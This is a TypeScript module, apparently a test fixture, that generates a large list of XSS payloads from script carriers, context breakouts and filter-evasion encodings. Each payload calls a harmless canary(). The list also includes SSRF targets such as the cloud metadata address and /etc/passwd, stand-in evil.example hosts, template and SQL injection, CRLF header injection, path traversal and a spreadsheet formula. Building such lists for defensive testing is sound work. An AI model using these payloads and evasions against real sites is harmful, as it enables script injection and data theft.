/**
 * Texts that would run, load or draw something if any place took them for
 * markup, for an address, for a template or for a program: made by combining
 * what carries a program with what breaks out of the place around it, and with
 * ways to write the same so that a filter overlooks it.
 *
 * All that run call `canary()`, which tests watch, and `alert()`.
 *
 * @module
 */

const JS = "canary(),alert(1)";

/** What runs a program as soon as it is markup. */
const CARRIERS: readonly string[] = [
  `<script>${JS}</script>`,
  `<script src="data:text/javascript,${JS}"></script>`,
  `<script type=module>${JS}</script>`,
  `<img src=x onerror=${JS}>`,
  `<img/src/onerror=${JS}>`,
  `<image href=x onerror=${JS}>`,
  `<svg onload=${JS}>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><a xlink:href="javascript:${JS}"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${JS} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${JS}>#x"></use></svg>`,
  `<svg><foreignObject><iframe onload=${JS}></iframe></foreignObject></svg>`,
  `<math href="javascript:${JS}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}>`,
  `<body onload=${JS}>`,
  `<iframe srcdoc="<script>parent.${JS}</script>"></iframe>`,
  `<iframe src="javascript:parent.${JS}"></iframe>`,
  `<object data="javascript:${JS}"></object>`,
  `<embed src="javascript:${JS}">`,
  `<details open ontoggle=${JS}>x</details>`,
  `<input autofocus onfocus=${JS}>`,
  `<select autofocus onfocus=${JS}></select>`,
  `<textarea autofocus onfocus=${JS}></textarea>`,
  `<x-y tabindex=1 autofocus onfocus=${JS}>x</x-y>`,
  `<video><source onerror=${JS}></video>`,
  `<audio src=x onerror=${JS}></audio>`,
  `<marquee onstart=${JS}>x</marquee>`,
  `<form action="javascript:${JS}"><button autofocus>x</button></form>`,
  `<a href="javascript:${JS}" autofocus onfocus=${JS}>x</a>`,
  `<base href="//evil.example/">`,
  `<meta http-equiv=refresh content="0;url=javascript:${JS}">`,
  `<link rel=stylesheet href="data:text/css,*{color:red}" onload=${JS}>`,
  `<style onload=${JS}>*{display:none}</style>`,
  `<style>@import "//evil.example/x.css"</style>`,
  `<template shadowrootmode=open><script>${JS}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>">`,
  `<div style="background:url(//evil.example/)" onmouseover=${JS}>x</div>`,
  `<table background="javascript:${JS}"><td>x</table>`,
  `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${JS}>`,
  `<plaintext><script>${JS}</script>`,
];

/** What ends the place that a text stands in. */
const BREAKOUTS: readonly string[] = [
  "",
  '"',
  "'",
  '">',
  "'>",
  "`>",
  "</textarea>",
  "</title>",
  "</script>",
  "<!--></script>",
  "--><!-- -->",
  "]]>",
  "</li></ol></section>",
  "</style></noscript>",
  '\\"});',
  "\u2028",
];

/** Ways to write a text that somebody might undo after checking it. */
const DISGUISES: Readonly<Record<string, (text: string) => string>> = {
  "upper case": (text) => text.toUpperCase().replaceAll("CANARY", "canary"),
  "entities": (text) => each(text, (code) => `&#${code};`),
  "hexadecimal entities": (text) =>
    each(text, (code) => `&#x${code.toString(16)}`),
  "named entities": (text) =>
    text.replaceAll("<", "&lt;").replaceAll(">", "&gt;")
      .replaceAll('"', "&quot;").replaceAll(":", "&colon;"),
  "an address": (text) => encodeURIComponent(text),
  "an address twice": (text) => encodeURIComponent(encodeURIComponent(text)),
  "escapes of JavaScript": (text) =>
    each(text, (code) => `\\u${code.toString(16).padStart(4, "0")}`),
  "full width": (text) =>
    each(
      text,
      (code) =>
        String.fromCodePoint(code > 32 && code < 127 ? code + 0xfee0 : code),
    ),
  "zeros between": (text) => text.replaceAll("<", "<\0").replace("s", "s\0"),
  "breaks between": (text) => text.replaceAll("=", "\n=\t").replace("s", "s\n"),
  "nothing between": (text) => Array.from(text).join("\u200b"),
  "from right to left": (text) =>
    `\u202e${Array.from(text).reverse().join("")}\u202c`,
  "isolates": (text) => `\u2067${text}\u2069`,
  "UTF-7": (text) =>
    `+ADw-${text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-")}`,
  "Base64": (text) => `data:text/html;base64,${btoa(text)}`,
  "doubled": (text) => text.replaceAll("script", "scrscriptipt"),
};

const SCHEMES: readonly string[] = [
  `javascript:${JS}`,
  `JaVaScRiPt:${JS}`,
  `java\nscript:${JS}`,
  `java\tscript:${JS}`,
  ` javascript:${JS}`,
  `\u0001javascript:${JS}`,
  `javascript\u200b:${JS}`,
  `javascript&colon;${JS}`,
  `&#106;avascript:${JS}`,
  `javascript:%63anary()`,
  `javascript://example.org/%0a${JS}`,
  `view-source:javascript:${JS}`,
  `vbscript:msgbox(1)`,
  `data:text/html,<script>${JS}</script>`,
  `data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload=${JS}>`,
  `blob:https://example.org/x`,
  `file:///etc/passwd`,
  `//evil.example/x`,
  `\\\\evil.example\\x`,
  `https:evil.example`,
  `https://example.org@evil.example/`,
  `https://example.org"onmouseover="${JS}`,
  `https://example.org/'><img src=x onerror=${JS}>`,
  `https://example.org/\u202egpj.exe`,
  `https://xn--80ak6aa92e.com/`,
  `https://exаmple.org/`,
  `https://[::1]:8000/api/health`,
  `http://169.254.169.254/latest/meta-data/`,
  `mailto:a@example.org?subject=<script>${JS}</script>`,
  `intent://x#Intent;scheme=javascript;end`,
  `ftp://example.org/;type=a`,
];

const LINKS: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => `<${url}>`,
  (url) => `[x](${url})`,
  (url) => `![x](${url})`,
  (url) => `[x](<${url}> "x\\" onmouseover=${JS}")`,
  (url) => `[x]\n\n[x]: ${url}`,
  (url) => `see (${url}), now`,
];

const TEMPLATES: readonly string[] = [
  `{{constructor.constructor('${JS}')()}}`,
  `\${${JS}}`,
  `#{${JS}}`,
  `<%= ${JS} %>`,
  `{%raw%}${JS}{%endraw%}`,
  `[[${JS}]]`,
  `{"__html":"<img src=x onerror=${JS}>"}`,
  `{"type":"script","props":{"children":"${JS}"}}`,
  `{"constructor":{"prototype":{"x":1}},"__proto__":{"dangerouslySetInnerHTML":{"__html":"<b>"}}}`,
  `"],"x":${JS},"y":["`,
  `\\u003cscript\\u003e${JS}\\u003c/script\\u003e`,
  `\\x3cscript\\x3e${JS}\\x3c/script\\x3e`,
  `*{background:url(javascript:${JS})}`,
  `expression(${JS})`,
  `'; DROP TABLE messages; --`,
  `x\r\nSet-Cookie: session=evil`,
  `%0d%0aSet-Cookie:%20session=evil`,
  `../../../../etc/passwd`,
  `=HYPERLINK("http://evil.example")`,
];

const STRANGE: readonly string[] = [
  "\ud800",
  "\udc00x\ud800",
  "\uffff\ufffe",
  "\u0000\u0001\u0002",
  "\u001b[31mred\u001b[0m",
  `a${"\u0301".repeat(1_000)}`,
  "\u202e".repeat(100) + "evil",
  "\u2066".repeat(500),
  "W".repeat(4_000),
  "﷽".repeat(400),
  "🏳️‍🌈".repeat(300),
  "👨‍👩‍👧‍👦".repeat(200),
  "\n".repeat(3_000) + "end",
  "\t \u00a0\u3000x",
  "ا".repeat(1_000) + "<script>",
  "<".repeat(3_990),
  "&".repeat(3_990),
  "\u{e0001}\u{e0063}\u{e007f}x",
];

/** Every payload once; the same list in every run. */
export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...CARRIERS.flatMap((carrier) =>
      BREAKOUTS.map((breakout) => breakout + carrier)
    ),
    ...CARRIERS.flatMap((carrier) =>
      Object.values(DISGUISES).map((disguise) => disguise(carrier))
    ),
    ...SCHEMES.flatMap((scheme) => LINKS.map((link) => link(scheme))),
    ...TEMPLATES,
    ...STRANGE,
  ]),
];

function each(text: string, encode: (code: number) => string): string {
  return Array.from(text, (char) => encode(char.codePointAt(0) ?? 0)).join("");
}
